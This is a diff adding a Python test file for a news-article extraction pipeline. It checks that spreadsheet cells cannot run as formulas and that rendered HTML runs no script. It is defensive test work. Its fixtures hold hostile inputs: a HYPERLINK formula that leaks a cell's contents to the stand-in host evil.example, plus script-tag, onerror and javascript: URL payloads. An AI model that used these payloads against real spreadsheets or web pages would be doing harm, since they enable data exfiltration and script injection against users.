@@ -1,0 +1,102 @@
+"""Hostile article text in outputs: no spreadsheet cell runs as a formula, no page runs a script."""
+
+from __future__ import annotations
+
+import csv
+import json
+from html.parser import HTMLParser
+
+import pandas as pd
+import pytest
+
+from pipeline.run import extract_folder
+from pipeline.safe import csv_cell, html_text, html_url
+from pipeline.write import LIST, SCHEMAS, STR
+
+TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Отчёт")'
+HOSTILE = (
+    "<script>alert('x')</script> Министры Казахстана и Узбекистана подписали соглашение в Ташкенте "
+    '2 июня 2025 года. <img src=x onerror="alert(1)"> <a href="javascript:alert(2)">подробнее</a>'
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("in")
+    (folder / "feed.jsonl").write_text(
+        json.dumps(
+            {"id": "=1+1", "title": TITLE, "text": "@SUM(A1:A9) " + HOSTILE, "url": "javascript:alert(3)"}
+        )
+        + "\n"
+        + json.dumps(
+            {"id": "-2", "title": "+7 (727) 555", "text": "-" + HOSTILE, "url": "https://example.org/a"}
+        ),
+        encoding="utf-8",
+    )
+    (folder / "script.txt").write_text(HOSTILE, encoding="utf-8")
+    out = tmp_path_factory.mktemp("out")
+    summary = extract_folder(folder, out, workers=1)
+    assert summary.statuses["ok"] == 3
+    return out
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("=1+1", "'=1+1"), ("+7 727", "'+7 727"), ("-2", "'-2"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("a=b", "a=b"),
+     (-74.0, -74.0), (3, 3), (None, ""), (["=a", "b"], "'=a | b"), ("Министр", "Министр")],
+)  # fmt: skip
+def test_csv_cells(value, cell):
+    assert csv_cell(value) == cell
+
+
+def test_no_text_cell_of_any_csv_begins_a_formula(hostile_run):
+    for name, fields in SCHEMAS.items():
+        with open(hostile_run / f"{name}.csv", encoding="utf-8", newline="") as f:
+            rows = list(csv.reader(f))
+        texts = [i for i, (_, kind) in enumerate(fields) if kind in (STR, LIST)]  # numbers may be negative
+        for row in rows[1:]:
+            for i in texts:
+                assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (name, fields[i][0], row[i])
+    articles = pd.read_parquet(hostile_run / "articles.parquet").set_index("record")
+    assert articles.loc["=1+1", "title"] == TITLE  # Parquet keeps the value as it is
+
+
+class _Page(HTMLParser):
+    """What a browser would run: script elements, event-handler attributes, script URLs."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.scripts, self.handlers, self.script_urls, self.text = 0, [], [], []
+
+    def handle_starttag(self, tag, attrs):
+        self.scripts += tag == "script"
+        self.handlers += [name for name, _ in attrs if name.startswith("on")]
+        self.script_urls += [
+            v for _, v in attrs if v and v.strip().lower().startswith(("javascript:", "data:"))
+        ]
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def test_article_text_in_a_page_renders_as_text(hostile_run):
+    """A page built from the tables with the escaping helpers, as any HTML output must be."""
+    articles = pd.read_parquet(hostile_run / "articles.parquet")
+    texts = pd.read_parquet(hostile_run / "texts.parquet").set_index("article_id")
+    urls = ["javascript:alert(3)", "https://example.org/a", " JavaScript:alert(4)", "data:text/html,<script>"]
+    body = []
+    for article in articles.itertuples():
+        body.append(f'<article title="{html_text(article.title)}"><h1>{html_text(article.title)}</h1>')
+        body.append(f"<p>{html_text(texts.loc[article.article_id, 'text'])}</p></article>")
+    for url in urls:
+        href = html_url(url)
+        body.append(f'<a href="{href}">link</a>' if href else f"<span>{html_text(url)}</span>")
+    page = _Page()
+    page.feed("<html><body>" + "".join(body) + "</body></html>")
+    assert page.scripts == 0 and page.handlers == [] and page.script_urls == []
+    shown = "".join(page.text)
+    assert (
+        "<script>alert('x')</script>" in shown
+        and 'onerror="alert(1)"' in shown
+        and "javascript:alert(2)" in shown
+    )
